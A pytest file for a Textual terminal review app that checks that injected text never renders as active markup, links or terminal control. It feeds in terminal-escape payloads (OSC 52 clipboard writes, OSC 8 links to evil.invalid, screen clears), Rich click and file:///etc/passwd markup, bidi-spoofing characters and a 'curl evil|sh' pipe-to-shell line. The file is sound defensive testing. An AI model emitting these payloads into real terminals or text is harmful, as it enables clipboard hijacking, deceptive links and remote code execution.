"""Text from articles, file names and colleagues never acts: not as markup, not as a link, not as terminal control."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from textual.widgets import Input, TextArea

from checker.model import Evidence, Report
from checker.sources import OutletRecord
from tui.terminal import MODES

PAYLOADS = {
    "markup": "[/] [b [red]x[/red] [$x] [ red] [@click=app.quit()]more[/] [link=file:///etc/passwd]x[/link] x\\",
    "escapes": "\x1b]52;c;ZXZpbA==\x07 \x1b]0;owned\x1b\\ \x1b]8;;http://evil.invalid\x1b\\x \x1b[2J\x1b[6n\x1bc\x1bP",
    "controls": "\x9d52;c;Zm9v\x9c \x9b31m \x85 nul\x00 bel\x07 bs\x08 safe\rEVIL \x0b\x0c\x7f",
    "deceptions": "killed \u202e001\u202c \u2067x \u061c\u200f\u2069 a\u200bb\u00ad\ufeff\u3164\U000e0069\udcff\ue000",
    "masses": "a" + "\u0301" * 2_000 + "👩‍" * 100 + "x" * 2_000 + " ש" * 2_000,
}
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff\u200b\u00ad\u061c\u200e\u200f\ufeff]")
# The renderer's own isolates and overrides surround whole lines and are balanced within each.
OWN = re.compile("[\u202d\u2066\u2067][^\u202a-\u202e\u2066-\u2069]*[\u202c\u2069]")


def poisoned(report: Report, payload: str) -> Report:
    """`report` with the payload in every field a reader sees."""
    articles = tuple(
        replace(article, outlet=f"{payload} {article.outlet}" if article.outlet else None, title=payload,
                text=article.text + "\n" + payload, language=payload, url=payload, path=payload, dateline=payload,
                published=payload, warnings=(payload,))
        for article in report.articles
    )  # fmt: skip
    payload = payload.replace("\udcff", "\ufffd")  # half a character is gone before claims are read
    claims = tuple(
        replace(claim, source=payload, origin=payload + "!", kind=payload,
                values=tuple(replace(value, noun=payload, unit=None) for value in claim.values))
        for claim in report.claims
    )  # fmt: skip
    evidence = (Evidence(payload, "same", 0.1, payload),)
    findings = tuple(
        replace(finding, question=payload,
                pairs=tuple(replace(pair, rule=payload, evidence=evidence) for pair in finding.pairs))
        for finding in report.findings
    )  # fmt: skip
    return Report(articles, claims, findings, rejected=(payload,))


def check(app, grid: str) -> None:
    """Nothing on the screen acts."""
    for line in grid.split("\n"):
        left = OWN.sub("", line)
        assert not CONTROL.search(left), ascii(left)
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", left), ascii(left)
    for strip in app.screen._compositor.render_strips():
        for segment in strip:
            assert segment.style is None or not segment.style.link
            assert segment.style is None or "@click" not in segment.style.meta


def reviewed(desk, payload: str) -> None:
    """What reviewers typed is as foreign as an article."""
    for ident in ("f1", "f2"):
        desk.decide(ident, "accept", payload, reason=payload)
        desk.note(ident, payload, payload)
    desk.tag("f1", [payload], (), payload)
    desk.assign("f1", payload, payload)


@pytest.mark.parametrize("name", PAYLOADS)
async def test_no_widget_lets_foreign_text_act(name: str, other_desk, report, review, press, screen_text) -> None:
    payload = PAYLOADS[name]
    desk = other_desk(poisoned(report, payload))
    reviewed(desk, payload)
    for outlet in ("أخبار النيل", "Harbour Post"):
        desk.save_outlet(OutletRecord(f"{payload} {outlet}", ((payload, payload),), payload, payload, payload, note=payload))
    mode = MODES[list(PAYLOADS).index(name) % len(MODES)]
    async with review(desk, size=(200, 34), mode=mode) as (app, pilot):
        await press(pilot, "down", "right", "shift+down")
        check(app, screen_text(app))
        await pilot.click("#findings", offset=(6, 1))
        await pilot.click("#claims", offset=(12, 2))
        for keys in (("n",), ("escape", "o"), ("escape", "w"), ("escape", "enter"), ("n", "escape", "S"),
                     ("end", "enter"), ("escape", "escape", "x"), ("t",), ("escape", "L"), ("escape", "H"), ("escape", "e"),
                     ("escape", "t"), ("escape", "b"), ("G", "G"), ("W", "right", "W"), ("escape", "O"),
                     ("escape", "slash")):  # fmt: skip
            await press(pilot, *keys)
            check(app, screen_text(app))
        app.screen.query_one("#search", Input).value = payload[:500]
        await press(pilot)
        check(app, screen_text(app))
        app.say(payload)
        await press(pilot, "enter", "a")
        check(app, screen_text(app))
        assert app.is_running


async def test_a_note_left_alone_is_saved_as_it_was(desk, review, press, screen_text) -> None:
    desk.note("f1", "old\x1b[2J", "dana")
    async with review(desk) as (app, pilot):
        await press(pilot, "n")
        assert app.screen.query_one(TextArea).text == "old⟨001B⟩[2J"
        await press(pilot, "ctrl+s")
        assert desk.finding("f1").review.note == "old\x1b[2J" and "nothing to save" in screen_text(app)


async def test_the_clipboard_gets_no_control_character(other_desk, report, review, press) -> None:
    desk = other_desk(poisoned(report, "x\x1b]52;c;ZXZpbA==\x07\ncurl evil|sh"))
    async with review(desk) as (app, pilot):
        await press(pilot, "c")
        assert app.clipboard and not CONTROL.search(app.clipboard) and "\n" not in app.clipboard
